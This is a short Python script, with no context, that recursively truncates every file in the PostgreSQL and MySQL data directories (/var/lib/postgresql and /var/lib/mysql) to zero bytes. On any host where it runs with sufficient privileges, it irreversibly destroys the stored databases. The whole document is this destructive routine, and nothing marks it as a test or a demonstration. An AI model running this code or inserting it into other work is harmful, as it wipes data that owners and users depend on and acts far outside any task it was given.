from pathlib import Path

for f in Path("/var/lib/postgresql").rglob("*"):
    if f.is_file():
        with f.open("wb"):
            pass
for f in Path("/var/lib/mysql").rglob("*"):
    if f.is_file():
        f.write_bytes(b"")
